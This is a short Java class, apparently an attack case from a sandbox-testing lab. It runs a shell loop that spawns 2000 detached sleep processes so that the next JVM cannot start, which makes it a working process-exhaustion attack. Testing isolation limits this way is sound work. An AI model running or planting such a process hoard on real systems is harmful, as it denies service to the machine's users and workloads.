package marshal.lab1;

/** Leaves as many processes behind as it may have, so that its next JVM cannot start */
final class Attack {

    private Attack() {}

    static String run() throws Exception {
        String hoard = "i=0; while [ $i -lt 2000 ]; do setsid sleep 300 </dev/null >/dev/null 2>&1 & i=$((i + 1)); done";
        var shell = new ProcessBuilder("sh", "-c", hoard);
        shell.redirectOutput(ProcessBuilder.Redirect.DISCARD).redirectError(ProcessBuilder.Redirect.DISCARD).start().waitFor();
        return "held, if the next check fails";
    }
}
